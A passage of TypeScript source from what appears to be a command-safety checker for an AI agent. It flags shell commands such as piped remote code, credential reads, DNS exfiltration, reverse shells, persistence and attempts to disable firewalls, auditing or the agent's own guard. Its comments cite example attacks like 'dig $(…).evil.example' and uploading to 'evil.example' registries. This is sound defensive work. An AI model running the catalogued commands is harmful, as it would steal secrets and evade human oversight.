      if (isDecoder(inv)) kind = 'decode';
    }
    return kind;
  }

  private isLocalOnly(inv: Invocation): boolean {
    const hosts = inv.args.map((a) => hostOf(a.text)).filter((h): h is string => !!h);
    return hosts.length > 0 && hosts.every((h) => classifyHost(h).cls === 'loopback');
  }

  private upstreamKind(upstream: readonly Command[]): 'download' | 'decode' | 'literal' | 'other' | undefined {
    if (upstream.length === 0) return undefined;
    let kind: 'decode' | 'literal' | 'other' = 'other';
    for (const c of upstream) {
      const inv = unwrap(c.argv, c);
      if (!inv) continue;
      if (DOWNLOADERS.has(inv.name) && !this.isLocalOnly(inv)) return 'download';
      if (isDecoder(inv)) kind = 'decode';
    }
    if (kind === 'other' && upstream.length === 1 && echoValue(upstream) !== undefined) return 'literal';
    return kind;
  }

  private stdinExec(inv: Invocation, upstream: readonly Command[], lang: string): void {
    const { cmd } = inv;
    const heredoc = cmd.redirects.find((r) => r.op.startsWith('<<'));
    const fromFile = cmd.redirects.find((r) => r.op === '<');
    const kind = this.upstreamKind(upstream);
    if (kind === 'download') {
      this.add('remote_code', 'deny', `pipes downloaded content into ${inv.name}`, cmd);
    } else if (kind === 'decode') {
      this.add('decode_exec', 'deny', `pipes decoded data into ${inv.name}`, cmd);
    } else if (kind === 'literal') {
      const text = echoValue(upstream)!;
      if (lang === 'shell') this.nested(text, cmd, `text piped into ${inv.name}`);
      else this.inline(text, inv.name, cmd);
      this.add('stdin_exec', 'review', `runs text piped into ${inv.name}`, cmd);
    } else if (kind === 'other') {
      this.add('stdin_exec', 'review', `runs whatever the pipeline feeds into ${inv.name}`, cmd);
    } else if (heredoc && heredoc.op === '<<<' && heredoc.target && heredoc.target.subst.length > 0) {
      const k = this.substKind(heredoc.target);
      if (k === 'download') this.add('remote_code', 'deny', `feeds downloaded content to ${inv.name}`, heredoc.target);
      else if (k === 'decode') this.add('decode_exec', 'deny', `feeds decoded data to ${inv.name}`, heredoc.target);
      else this.add('stdin_exec', 'review', `feeds command output to ${inv.name}`, heredoc.target);
    } else if (heredoc && heredoc.text !== undefined) {
      if (lang === 'shell') this.nested(heredoc.text, cmd, `script fed to ${inv.name}`);
      else this.inline(heredoc.text, inv.name, cmd);
    } else if (fromFile?.target) {
      const p = normalizePath(fromFile.target.text, this.opts.home);
      if (this.downloaded.has(p)) this.add('remote_code', 'deny', `runs a file downloaded earlier in the same command (${inv.name} < file)`, fromFile.target);
      if (fromFile.target.processSubst || fromFile.target.subst.length > 0) this.procSubstRun(fromFile.target, inv.name);
    }
  }

  private procSubstRun(w: Word, runner: string): void {
    const kind = this.substKind(w);
    if (kind === 'download') this.add('remote_code', 'deny', `${runner} runs downloaded content`, w);
    else if (kind === 'decode') this.add('decode_exec', 'deny', `${runner} runs decoded data`, w);
    else if (kind === 'other') this.add('obfuscation', 'review', `${runner} runs the output of another command`, w);
  }

  private shellLike(inv: Invocation, upstream: readonly Command[]): void {
    const { name, args } = inv;
    if (name === 'eval') {
      if (args.length === 0) return;
      if (args.every((a) => !a.dynamic)) {
        this.nested(args.map((a) => a.text).join(' '), { start: args[0]!.start, end: args[args.length - 1]!.end }, 'eval');
        this.add('obfuscation', 'review', 'runs a command through eval', inv.cmd);
      } else {
        const kinds = args.map((a) => this.substKind(a));
        if (kinds.includes('download')) this.add('remote_code', 'deny', 'evals downloaded content', inv.cmd);
        else if (kinds.includes('decode')) this.add('decode_exec', 'deny', 'evals decoded data', inv.cmd);
        else this.add('obfuscation', 'review', 'evals a command built at run time', inv.cmd);
      }
      return;
    }
    if (name === 'source' || name === '.') {
      const target = args[0];
      if (!target) return;
      if (target.processSubst || target.dynamic) this.procSubstRun(target, name);
      if (looksLikeUrl(target.text)) this.add('remote_code', 'deny', `${name} loads a remote script`, target);
      if (this.downloaded.has(normalizePath(target.text, this.opts.home))) this.add('remote_code', 'deny', 'sources a file downloaded earlier in the same command', target);
      if (this.decoded.has(normalizePath(target.text, this.opts.home))) this.add('decode_exec', 'deny', 'sources a file decoded earlier in the same command', target);
      if (target.text === '/dev/stdin' || target.text === '-' || target.text === '/proc/self/fd/0') this.stdinExec(inv, upstream, 'shell');
      return;
    }
    // A shell: -c STRING, a script file, or stdin.
    let i = 0;
    let script: Word | undefined;
    let inline: Word | undefined;
    let stdinFlag = false;
    for (; i < args.length; i++) {
      const a = args[i]!;
      if (a.text === '--') {
        script = args[i + 1];
        break;
      }
      if (isOpt(a) && !a.text.startsWith('--')) {
        if (a.text.includes('c')) {
          inline = args[i + 1];
          break;
        }
        if (a.text.includes('s')) stdinFlag = true;
        if (/^-[oO]$/.test(a.text)) i++;
        continue;
      }
      if (a.text.startsWith('--')) continue;
      if (a.text.startsWith('+')) continue;
      script = a;
      break;
    }
    if (inline) {
      const label = inv.label ?? `${name} -c`;
      if (!inline.dynamic) this.nested(inline.text, inline, label);
      else {
        const kind = this.substKind(inline);
        if (kind === 'download') this.add('remote_code', 'deny', `${label} runs downloaded content`, inline);
        else if (kind === 'decode') this.add('decode_exec', 'deny', `${label} runs decoded data`, inline);
        else this.add('obfuscation', 'review', `${label} runs a command string built at run time`, inline);
      }
      return;
    }
    if (script && !stdinFlag && script.text !== '-' && script.text !== '/dev/stdin') {
      if (script.processSubst || script.subst.length > 0) this.procSubstRun(script, name);
      else if (looksLikeUrl(script.text)) this.add('remote_code', 'deny', `${name} runs a remote script`, script);
      else if (this.downloaded.has(normalizePath(script.text, this.opts.home))) this.add('remote_code', 'deny', 'runs a file downloaded earlier in the same command', script);
      else if (this.decoded.has(normalizePath(script.text, this.opts.home))) this.add('decode_exec', 'deny', 'runs a file decoded earlier in the same command', script);
      return;
    }
    this.stdinExec(inv, upstream, 'shell');
  }

  private interpreter(inv: Invocation, upstream: readonly Command[]): void {
    const { name, args } = inv;
    const lang = name.replace(/\d+(?:\.\d+)*$/, '');
    const flags = INTERPRETERS[name] ?? [];
    if ((name === 'pwsh' || name === 'powershell') && args.some((a) => /^-e(?:nc(?:odedcommand)?)?$/i.test(a.text))) {
      this.add('decode_exec', 'deny', `${name} runs an encoded (base64) command`, inv.cmd);
      return;
    }
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      const flag = flags.find((f) => a.text === f || (f.length === 2 && a.text.startsWith(f) && a.text.length > 2 && !a.text.startsWith('--') && /^-[a-zA-Z]/.test(a.text) && a.text[1] === f[1] && !/^-[a-zA-Z]{2,}$/.test(a.text)));
      if (flag) {
        const code = a.text === flag ? args[i + 1] : { ...a, text: a.text.slice(2) };
        if (!code) return;
        if (code.dynamic) {
          const kind = this.substKind(code);
          if (kind === 'download') this.add('remote_code', 'deny', `${name} runs downloaded code`, code);
          else if (kind === 'decode') this.add('decode_exec', 'deny', `${name} runs decoded code`, code);
        }
        this.inline(code.text, lang, code);
        return;
      }
      if (/^-[a-zA-Z]*[cep]$/.test(a.text) && flags.some((f) => f.length === 2 && a.text.endsWith(f[1]!))) {
        const code = args[i + 1];
        if (code) this.inline(code.text, lang, code);
        return;
      }
    }
    if (name === 'awk' || name === 'gawk') {
      const prog = positionals(args, new Set(['-F', '-v', '-f']))[0];
      if (prog && /\bsystem\s*\(|\|\s*getline|\|&|print[^;]*\|\s*"/.test(prog.text)) {
        for (const s of inlineShellStrings(prog.text)) this.nested(s, prog, 'awk runs a shell command');
        this.add('obfuscation', 'review', 'awk program runs shell commands', prog);
      }
      return;
    }
    const pos = positionals(args, new Set(['-m', '-W', '-X', '-r', '--require', '-I', '--import', '--loader']));
    const script = (name === 'deno' || name === 'bun') && /^(?:run|x)$/.test(pos[0]?.text ?? '') ? pos[1] : pos[0];
    if (args.some((a) => a.text === '-m')) return;
    if (script && script.text !== '-') {
      if (script.processSubst || script.subst.length > 0) this.procSubstRun(script, name);
      else if (looksLikeUrl(script.text) && name !== 'deno' && name !== 'bun') this.add('remote_code', 'deny', `${name} runs a remote script`, script);
      else if (looksLikeUrl(script.text)) this.add('remote_code', 'review', `${name} runs a remote script`, script);
      else if (this.downloaded.has(normalizePath(script.text, this.opts.home))) this.add('remote_code', 'deny', 'runs a file downloaded earlier in the same command', script);
      return;
    }
    if (['python', 'pypy', 'node', 'nodejs', 'perl', 'ruby', 'php', 'lua', 'bun', 'pwsh', 'powershell', 'osascript'].includes(lang) || name.startsWith('python')) {
      // Reads its program from stdin only with no arguments but harmless flags (`python3 -`, `node`, `perl -w`).
      const readsStdin = args.every((a) => /^-(?:[uqBEsSIwWT]*|-)?$/.test(a.text));
      if (readsStdin && (inv.cmd.pipe || inv.cmd.redirects.some((r) => r.op.startsWith('<')))) this.stdinExec(inv, upstream, lang);
    }
  }

  private readsAndWrites(inv: Invocation): void {
    const { name, args } = inv;
    const envLoader = ENV_LOADERS.has(name);
    if (!NON_READING.has(name)) {
      const skipLast = ['cp', 'install', 'rsync', 'scp', 'ln', 'tee', 'dd', 'mv'].includes(name) ? positionals(args).at(-1) : undefined;
      const outputs = new Set(optValues(args, ['-o', '-O', '-out', '-keyout', '--output', '--out', '--output-document', '--keyout']).map((w) => w.start));
      for (const a of args) {
        if (a === skipLast || outputs.has(a.start)) continue;
        for (const cand of pathCandidates(a.text)) {
          const hit = firstOf(this.paths(cand), (n) => sensitiveRead(n) ?? globRead(n));
          if (!hit) continue;
          if (envLoader && /\.env/.test(hit.what)) continue;
          this.add(hit.category, hit.level, `${name} reads ${hit.what}`, a);
          break;
        }
      }
      if (name === 'tar' || name === 'bsdtar') this.tarDirectory(inv);
    } else if (name === 'find' || name === 'ls' || name === 'tree') {
      this.findSecrets(inv);
    }
    for (const w of [...writeTargets(inv), ...intoDirTargets(inv)]) {
      const hit = firstOf(this.paths(w.text), sensitiveWrite);
      // `chmod 600 ~/.ssh/id_rsa`, `touch`: no content written, nothing destroyed.
      if (hit && hit.category === 'destructive' && /^(?:chmod|chown|touch|mkdir)$/.test(name)) continue;
      if (hit) this.add(hit.category, hit.level, `${name} writes to ${hit.what}`, w);
    }
    // `tar xf x.tar -C ~`, `unzip -o x.zip -d ~`, `rsync -a dotfiles/ ~/`: files the line does not name land
    // where start-up files and SSH keys live. A human decides (unpacking into ~/.local stays allowed).
    const into = extractTarget(inv);
    if (into && this.paths(into.text).some((n) => STARTUP_DIRS.test(n))) this.add('persistence', 'review', `${name} unpacks files it does not name into the home directory or a start-up directory`, into);
  }

  /** `tar -C ~ -czf - .ssh`: the names after `-C DIR` are read in DIR. */
  private tarDirectory(inv: Invocation): void {
    const { args } = inv;
    let dir: string | undefined;
    for (let i = 0; i < args.length; i++) {
      const t = args[i]!.text;
      if (t === '-C' || t === '--directory') {
        dir = args[++i]?.text;
        continue;
      }
      if (t.startsWith('--directory=') || /^-C./.test(t)) {
        dir = t.startsWith('-C') ? t.slice(2) : t.slice(12);
        continue;
      }
      if (dir === undefined || t.startsWith('-') || t.startsWith('/') || t.startsWith('~')) continue;
      const hit = firstOf(this.paths(posix.join(dir, t)), (n) => sensitiveRead(n) ?? globRead(n));
      if (hit) {
        this.add(hit.category, hit.level, `${inv.name} reads ${hit.what} (after -C)`, args[i]!);
        return;
      }
    }
  }

  /** The places `find` lists: each root, or ROOT/NAME for `-name NAME`, or the `-path` pattern. */
  private findListed(inv: Invocation): string[] {
    const first = inv.args.findIndex((a) => /^[-(!]/.test(a.text));
    const roots = (first < 0 ? inv.args : inv.args.slice(0, first)).map((r) => r.text);
    const names = optValues(inv.args, ['-name', '-iname']).map((v) => v.text);
    const out = optValues(inv.args, ['-path', '-ipath', '-wholename']).map((v) => v.text);
    for (const r of roots.length > 0 ? roots : ['.']) {
      if (names.length === 0) out.push(r);
      for (const n of names) out.push(`${r.replace(/\/+$/, '')}/${n}`);
    }
    return out;
  }

  /**
   * A pipeline that lists a credential directory into a program that reads the listed files:
   * `find ~/.aws -type f | xargs cat`, `ls -d ~/.ssh/* | xargs cat`, `find ~/.ssh | cpio -o`.
   */
  private listedSecrets(inv: Invocation, upstream: readonly Command[], label: string): void {
    for (const u of upstream) {
      const uinv = unwrap(u.argv, u);
      if (!uinv) continue;
      const places = uinv.name === 'find' ? this.findListed(uinv) : /^(?:ls|tree|fd|fdfind)$/.test(uinv.name) ? positionals(uinv.args).map((p) => p.text) : [];
      for (const place of places) {
        const hit = firstOf(this.paths(place), (n) => sensitiveRead(n) ?? globRead(n));
        if (hit) {
          this.add(hit.category, hit.level, `${label} reads ${hit.what} listed by ${uinv.name}`, inv.cmd);
          return;
        }
      }
    }
  }

  /** `cpio -o`, `tar -T -`, `zip -@`, `rsync --files-from=-`: read the files whose names come in on stdin. */
  private stdinFileList(inv: Invocation, upstream: readonly Command[]): void {
    const flags = STDIN_FILE_LIST[inv.name];
    if (!flags || upstream.length === 0) return;
    const fromStdin = flags.some((f) => {
      if (f === '-@' || f === '--names-stdin') return inv.args.some((a) => a.text === f);
      if (f === '-o' || f === '--create') return hasFlag(inv.args, 'o', '--create');
      return optValues(inv.args, [f]).some((v) => v.text === '-' || v.text === '/dev/stdin');
    });
    if (fromStdin) this.listedSecrets(inv, upstream, inv.name);
  }

  /** `find ~ -name id_rsa`: searching the home directory or the root for key files. */
  private findSecrets(inv: Invocation): void {
    if (inv.name !== 'find') return;
    const roots = positionals(inv.args.slice(0, inv.args.findIndex((a) => /^[-(!]/.test(a.text)) >>> 0));
    const wide = roots.some((r) => {
      const n = normalizePath(r.text, this.opts.home);
      return n === '/' || n === '~' || n === '/home' || n === '/Users' || n === '/root' || n.startsWith('~/.');
    });
    if (!wide) return;
    for (const v of optValues(inv.args, ['-name', '-iname', '-path', '-ipath', '-regex'])) {
      if (/id_(?:rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|credentials|\.env\b|wallet|\.kdbx|secret|token|password|\.npmrc|\.netrc|\.aws|\.ssh/i.test(v.text)) {
        this.add('credential_read', 'deny', 'find searches the home directory or the whole disk for credential files', v);
        return;
      }
    }
  }

  private secretVars(inv: Invocation): void {
    const { name, args } = inv;
    const network = DOWNLOADERS.has(name) || name === 'scp' || name === 'rsync' || NAME_LOOKUP.has(name);
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      const secret = a.vars.find((v) => SECRET_VAR.test(v));
      if (!secret) continue;
      if (network) {
        const hosts = this.hosts(inv);
        if (hosts.length > 0 && hosts.every((h) => this.known(h) || vendorHost(secret, h))) return;
        // An API key in an auth header is how API clients work; in a body, URL or query it is data going out.
        const auth = /^(?:-H|--header|-u|--user|--oauth2-bearer|-U|--proxy-user)$/.test(args[i - 1]?.text ?? '') || /^(?:-H|--header=|-u|--user=)/.test(a.text);
        if (auth) this.add('exfiltration', 'review', `${name} sends the secret variable $${secret} in an auth header to a host it does not name`, a);
        else this.add('exfiltration', 'deny', `${name} sends the secret variable $${secret} to an unknown host`, a);
      } else if (name === 'echo' || name === 'printf' || name === 'printenv') {
        this.add('credential_read', 'review', `${name} prints the secret variable $${secret}`, a);
      }
      return;
    }
    if (name === 'printenv') {
      const v = positionals(args).find((p) => SECRET_VAR.test(p.text));
      if (v) this.add('credential_read', 'review', `printenv prints the secret variable $${v.text}`, v);
    }
    if (name === 'ps' && /^[a-zA-Z]*e[a-zA-Z]*$/.test(args[0]?.text ?? '')) this.add('credential_read', 'review', "ps e prints other processes' environments (may hold API keys)", inv.cmd);
    if ((name === 'env' || name === 'printenv' || name === 'set') && !inv.cmd.pipe && positionals(args).length === 0 && !args.some((a) => a.text === '-o' || a.text === '+o')) {
      if (name !== 'set' || args.length === 0) this.add('credential_read', 'review', `${name} prints the environment (may hold API keys)`, inv.cmd);
    }
  }

  /**
   * `env | grep -i token`, `printenv | sort`: the environment printed through a filter. `env` alone is
   * reviewed; piped it was allowed, for `env | grep -i proxy`. A filter for secret names, or a program
   * that passes everything on, prints the keys again.
   */
  private envFilter(inv: Invocation, upstream: readonly Command[]): void {
    const dumps = upstream.some((u) => {
      const uinv = unwrap(u.argv, u);
      return !!uinv && (uinv.name === 'env' || uinv.name === 'printenv') && positionals(uinv.args).length === 0;
    });
    if (!dumps) return;
    const { name, args } = inv;
    if (/^(?:grep|egrep|fgrep|rg|ag|ack)$/.test(name)) {
      const pattern = [...optValues(args, ['-e', '--regexp']), ...positionals(args, new Set(['-e', '--regexp', '-m', '-A', '-B', '-C', '--max-count'])).slice(0, 1)];
      if (pattern.some((p) => /key|token|secret|pass|auth|cred|session|cookie|bearer|private/i.test(p.text))) this.add('credential_read', 'review', `${name} picks secret variables out of the environment`, inv.cmd);
    } else if (/^(?:sort|cat|tee|less|more|base64|base32|xxd|od|hexdump|column|uniq|tac|head|tail|nl|rev|gzip|tr|fold)$/.test(name)) {
      this.add('credential_read', 'review', `prints the environment (may hold API keys) through ${name}`, inv.cmd);
    }
  }

  /** `dig $(…).evil.example`, `for x in $(env | base64); do dig $x.evil.example; done`: data carried in a DNS name. */
  private nameLookup(inv: Invocation): void {
    const { name, args, cmd } = inv;
    if (args.some((a) => a.subst.length > 0)) {
      this.add('exfiltration', 'deny', `${name} looks up a name built from command output (DNS exfiltration)`, cmd);
      return;
    }
    // A variable in front of a fixed domain: the loop over encoded data above, or an innocent `$SUB.example.com`.
    const built = positionals(args).find((a) => a.dynamic && /\$\{[^}]+\}[\w-]*\.[\w-]+\.[a-z]{2,}\.?$/i.test(a.text));
    if (built && !this.networkTargetsKnown(inv)) this.add('exfiltration', 'review', `${name} looks up a name built from a variable on a fixed domain (DNS exfiltration when it carries data)`, built);
  }

  /** `npm publish --registry https://evil.example/`, `twine upload --repository-url …`: the project uploaded to an unknown host. */
  private publish(inv: Invocation): void {
    const verb = positionals(inv.args, new Set(PUBLISH_TARGET_OPTS))[0]?.text ?? '';
    if (!/^(?:publish|upload|push)$/.test(verb)) return;
    const targets = [...optValues(inv.args, PUBLISH_TARGET_OPTS), ...inv.assigns.filter((a) => /^(?:npm_config_registry|TWINE_REPOSITORY_URL|UV_PUBLISH_URL|POETRY_REPOSITORIES_\w+_URL|CARGO_REGISTRIES_\w+_INDEX|GEM_HOST)$/i.test(a.name) && a.value).map((a) => a.value!)];
    for (const t of targets) {
      const host = looksLikeUrl(t.text.replace(/^sparse\+/, '')) ? hostOf(t.text.replace(/^sparse\+/, '')) : undefined;
      if (host && !this.known(host)) {
        this.add('exfiltration', 'deny', `${inv.name} ${verb} uploads the project to a registry on an unknown host`, t);
        return;
      }
    }
  }

  private networkTargetsKnown(inv: Invocation): boolean {
    const hosts = this.hosts(inv);
    return hosts.length > 0 && hosts.every((h) => this.known(h));
  }

  private known(host: string): boolean {
    return classifyHost(host).cls === 'loopback' || this.opts.knownHost(host);
  }

  private hosts(inv: Invocation): string[] {
    const { name, args } = inv;
    const out: string[] = [];
    if (name === 'curl' || name === 'wget' || name === 'http' || name === 'https' || name === 'xh' || name === 'xhs' || name === 'aria2c' || name === 'fetch' || name === 'lwp-request' || name === 'GET' || name === 'POST') {
      const valueOpts = name === 'wget' ? WGET_VALUE_OPTS : CURL_VALUE_OPTS;
      for (const p of [...positionals(args, valueOpts), ...optValues(args, ['--url'])]) {
        if (name.startsWith('http') || name.startsWith('xh')) {
          if (/^(?:GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/.test(p.text) || /^[^/:]*(?:=|:=|==|@)/.test(p.text)) continue;
          if (/^:\d/.test(p.text)) {
            out.push('localhost');
            continue;
          }
        }
        // curl's URL globbing (`{a,b}`, `[1-9]`) and unquoted brace expansion: every URL it may fetch.
        for (const text of urlVariants(p.text)) {
          const h = hostOf(text) ?? (looksLikeUrl(text) ? undefined : hostOf(`http://${text}`));
          if (h) out.push(h);
        }
      }
      if (name === 'curl') {
        // Where curl really connects: a proxy, `--resolve host:port:addr`, `--connect-to h:p:host:port`.
        for (const v of optValues(args, ['-x', '--proxy', '--preproxy', '--socks4', '--socks4a', '--socks5', '--socks5-hostname'])) {
          const h = hostOf(v.text) ?? hostOf(`http://${v.text}`);
          if (h) out.push(h);
        }
        for (const v of optValues(args, ['--resolve'])) {
          for (const addr of v.text.replace(/^\+/, '').split(':').slice(2).join(':').split(',')) {
            const a = addr.trim();
            if (a) out.push(a.toLowerCase());
          }
        }
        for (const v of optValues(args, ['--connect-to'])) {
          const m = /^[^:]*:[^:]*:(\[[^\]]*\]|[^:]*):/.exec(v.text);
          if (m && m[1]) out.push(m[1].toLowerCase());
        }
      }
    } else if (SOCKET_TOOLS.has(name)) {
      if (name === 'socat') {
        for (const a of args) {
          const m = /^(?:tcp[46]?|udp[46]?|openssl|ssl|tcp-connect|udp-connect|udp-sendto)[:-]([^:,]+)/i.exec(a.text);
          if (m && !/^(?:listen|l)$/i.test(m[1]!)) out.push(m[1]!.toLowerCase());
        }
      } else {
        const p = positionals(args, new Set(['-p', '-s', '-w', '-i', '-q', '-e', '-c', '-x', '-X', '-P', '-g', '-G', '-O', '-T', '-W', '--source', '--proxy', '--exec', '--sh-exec', '--lua-exec']));
        if (p[0]) out.push(p[0].text.toLowerCase());
      }
    } else if (name === 'ssh' || name === 'sftp' || name === 'mosh') {
      const p = positionals(args, SSH_VALUE_OPTS)[0];
      const h = p ? hostOf(p.text) ?? p.text.replace(/^.*@/, '') : undefined;
      if (h) out.push(h.toLowerCase());
    } else if (name === 'scp' || name === 'rsync') {
      for (const p of positionals(args, SSH_VALUE_OPTS)) {
        const h = remoteHost(p.text);
        if (h) out.push(h);
      }
    } else if (name === 'openssl') {
      for (const v of optValues(args, ['-connect'])) out.push(v.text.replace(/:\d+$/, '').toLowerCase());
    } else if (NAME_LOOKUP.has(name)) {
      for (const p of positionals(args)) if (p.text.includes('.')) out.push(p.text.replace(/^@/, '').toLowerCase());
    } else if (name === 'ftp' || name === 'lftp' || name === 'tftp') {
      const p = positionals(args)[0];
      if (p) out.push((hostOf(p.text) ?? p.text).toLowerCase());
    }
    return out;
  }

  private specific(inv: Invocation, upstream: readonly Command[]): void {
    const { name, args, cmd } = inv;
    const all = args.map((a) => a.text);
    if (CRYPTOMINERS.has(name) || all.some((t) => /^stratum\+(?:tcp|ssl|tls):\/\//i.test(t))) {
      this.add('cryptominer', 'deny', 'starts a cryptocurrency miner', cmd);
    }
    if (all.some((t) => /\/dev\/(?:tcp|udp)\/|\/inet[46]?\/(?:tcp|udp)\//.test(t))) this.add('reverse_shell', 'deny', `${name} uses a /dev/tcp or /inet/tcp network socket`, cmd);
    if (TUNNELS.has(name) && (name !== 'tailscale' || all.includes('funnel'))) this.add('tunnel', 'review', `${name} exposes a local service to the internet`, cmd);
    if (PRIVILEGE_TOOLS.has(name) && !inv.wrappers.some((w) => WRAPPERS[w]?.elevates)) {
      if (!(name === 'mount' && args.length === 0)) this.add('privilege_escalation', 'deny', `${name} changes users, privileges or mounts`, cmd);
      if (name === 'su') {
        const c = optValues(args, ['-c', '--command'])[0];
        if (c && !c.dynamic) this.nested(c.text, c, 'su -c');
      }
    }
    if (DISK_TOOLS.test(name) && !((name === 'fdisk' || name === 'sfdisk' || name === 'parted') && all.some((t) => t === '-l' || t === '--list' || t === 'print'))) {
      this.add('destructive', 'deny', `${name} formats or repartitions a disk`, cmd);
    }
    if (POWER.has(name) || (name === 'init' && /^[06]$/.test(all[0] ?? '')) || (name === 'systemctl' && /^(?:poweroff|reboot|halt|kexec|emergency|rescue)$/.test(all.find((t) => !t.startsWith('-')) ?? ''))) {
      this.add('destructive', 'deny', `${name} shuts the machine down or reboots it`, cmd);
    }
    const line = `${name} ${all.join(' ')}`;
    const printer = CREDENTIAL_PRINTERS.find((p) => p.re.test(line));
    if (printer) this.add('credential_read', printer.level, printer.what, cmd);
    if (NAME_LOOKUP.has(name)) this.nameLookup(inv);
    if (upstream.length > 0) this.envFilter(inv, upstream);
    switch (name) {
      case 'rm':
      case 'rmdir':
      case 'unlink':
      case 'shred':
      case 'srm':
        this.remove(inv);
        break;
      case 'find':
        this.find(inv);
        break;
      case 'mv': {
        const pos = positionals(args);
        if (pos.length >= 2 && pos[pos.length - 1]!.text === '/dev/null') {
          for (const src of pos.slice(0, -1)) {
            const ns = this.paths(src.text);
            const hit = firstOf(ns, (n) => sensitiveRead(n) ?? sensitiveWrite(n));
            if (hit || ns.some(isCriticalTree)) {
              this.add('destructive', 'deny', `mv destroys ${hit?.what ?? 'a system tree'} by moving it onto /dev/null`, src);
              break;
            }
          }
        }
        break;
      }
      case 'dd':
        for (const a of args) {
          if (a.text.startsWith('of=')) {
            const hit = firstOf(this.paths(a.text.slice(3)), sensitiveWrite);
            if (hit) this.add(hit.category === 'system_write' ? 'destructive' : hit.category, 'deny', `dd overwrites ${hit.what}`, a);
          } else if (a.text.startsWith('if=')) {
            const hit = firstOf(this.paths(a.text.slice(3)), sensitiveRead);
            if (hit) this.add(hit.category, hit.level, `dd reads ${hit.what}`, a);
          }
        }
        break;
      case 'chmod':
        this.chmod(inv);
        break;
      case 'chown':
      case 'chgrp':
      case 'chattr':
      case 'setfacl': {
        for (const p of positionals(args).slice(name === 'setfacl' ? 0 : 1)) {
          const ns = this.paths(p.text);
          const hit = firstOf(ns, sensitiveWrite);
          if (ns.some(isCriticalTree) || (hit && hit.category !== 'persistence' && hit.category !== 'destructive')) {
            this.add(name === 'chattr' ? 'defense_evasion' : 'privilege_escalation', 'deny', `${name} changes ownership or attributes of ${hit?.what ?? 'a system tree'}`, p);
            break;
          }
        }
        break;
      }
      case 'kill':
      case 'pkill':
      case 'killall':
        this.kill(inv);
        break;
      case 'crontab': {
        // Listing or removing the table is fine; anything else (a file, stdin, -e) installs jobs.
        const listOrRemove = all.some((t) => t === '-l' || t === '-r') && all.every((t, i) => t === '-l' || t === '-r' || t === '-i' || t === '-u' || all[i - 1] === '-u');
        if (!listOrRemove) this.add('persistence', 'deny', 'crontab installs or edits scheduled jobs', cmd);
        break;
      }
      case 'at':
      case 'batch':
        if (!all.some((t) => t === '-l' || t === '-r' || t === '-d' || t === '-c')) this.add('persistence', 'deny', `${name} schedules a command to run later`, cmd);
        break;
      case 'systemctl':
      case 'service':
      case 'launchctl':
      case 'rc-update':
      case 'update-rc.d':
      case 'chkconfig':
        this.services(inv);
        break;
      case 'setenforce':
        if (all[0] === '0' || /^permissive$/i.test(all[0] ?? '')) this.add('defense_evasion', 'deny', 'setenforce turns SELinux enforcement off', cmd);
        break;
      case 'ufw':
        if (all[0] === 'disable' || all[0] === 'reset') this.add('defense_evasion', 'deny', `ufw ${all[0]} turns the firewall off`, cmd);
        break;
      case 'iptables':
      case 'ip6tables':
      case 'nft':
        if (all.some((t) => t === '-F' || t === '--flush' || t === '-X' || t === 'flush') || (all.includes('-P') && all.includes('ACCEPT'))) this.add('defense_evasion', 'deny', `${name} flushes or opens the firewall`, cmd);
        break;
      case 'auditctl':
        if (all.includes('-D') || (all.includes('-e') && all[all.indexOf('-e') + 1] === '0')) this.add('defense_evasion', 'deny', 'auditctl turns auditing off', cmd);
        break;
      case 'aa-disable':
      case 'aa-teardown':
      case 'aa-complain':
        this.add('defense_evasion', 'deny', `${name} weakens AppArmor`, cmd);
        break;
      case 'history':
        if (all.some((t) => /^-[cdw]/.test(t))) this.add('defense_evasion', 'deny', 'history clears or rewrites the shell history', cmd);
        break;
      case 'set':
        if (all.some((t, i) => t === '+o' && all[i + 1] === 'history')) this.add('defense_evasion', 'deny', 'set +o history stops recording commands', cmd);
        break;
      case 'docker':
      case 'podman':
      case 'nerdctl':
        this.container(inv);
        break;
      case 'kubectl':
      case 'oc':
        this.kubectl(inv);
        break;
      case 'git':
        this.git(inv);
        break;
      case 'curl':
      case 'wget':
      case 'http':
      case 'https':
      case 'xh':
      case 'xhs':
      case 'aria2c':
      case 'lwp-request':
      case 'fetch':
        this.http(inv, upstream);
        break;
      case 'ssh':
        this.ssh(inv, upstream);
        break;
      case 'scp':
      case 'rsync':
      case 'sftp':
      case 'ftp':
      case 'lftp':
      case 'tftp':
        this.copyOut(inv);
        break;
      case 'openssl':
        if (all[0] === 's_client' && (upstream.length > 0 || stdinFed(cmd)) && !this.networkTargetsKnown(inv)) this.add('exfiltration', 'deny', 'openssl s_client sends piped or redirected data to an unknown host', cmd);
        break;
      case 'psql':
      case 'mysql':
      case 'mariadb':
      case 'sqlite3':
      case 'mongosh':
      case 'mongo':
      case 'redis-cli':
      case 'cqlsh':
        this.database(inv);
        break;
      case 'terraform':
      case 'tofu':
      case 'pulumi':
        if (all.includes('destroy') || all.includes('-destroy')) this.add('destructive', 'review', `${name} destroys infrastructure`, cmd);
        break;
      case 'aws':
      case 'gcloud':
      case 'az':
      case 'gsutil':
      case 'doctl':
      case 'heroku':
      case 'gh':
      case 'op':
      case 'vault':
      case 'security':
      case 'secret-tool':
      case 'pass':
      case 'gopass':
      case 'bw':
      case 'lpass':
        this.cloud(inv);
        break;
      case 'openclaw':
      case 'clawdbot':
      case 'moltbot':
        if (/^(?:config|approvals|security|sandbox|secrets|devices|pairing)$/.test(all[0] ?? '') && !/^(?:get|list|show|status|view|validate|schema)$/.test(all[1] ?? 'list')) {
          this.add('defense_evasion', 'deny', `${name} ${all[0]} changes the agent's own safety settings or credentials (OpenClaw says: never via shell)`, cmd);
        }
        break;
      case 'clawguard':
        if (/^(?:keys|approvals|incident|audit|init|config)$/.test(all[0] ?? '') && !/^(?:list|show|verify|validate|schema|export)$/.test(all[1] ?? '')) {
          this.add('defense_evasion', 'deny', `clawguard ${all[0]} changes the guard that watches this agent`, cmd);
        }
        break;
      case 'npm':
      case 'pnpm':
      case 'yarn':
      case 'pip':
      case 'pip3':
      case 'pipx':
      case 'uv':
      case 'gem':
      case 'cargo':
      case 'go':
        this.packageInstall(inv);
        this.publish(inv);
        if (name === 'npm' || name === 'pnpm' || name === 'yarn') this.packageManagerConfig(inv);
        break;
      case 'twine':
      case 'poetry':
      case 'flit':
      case 'hatch':
      case 'bun':
        this.publish(inv);
        break;
      case 'nmap':
      case 'masscan':
      case 'zmap':
      case 'rustscan':
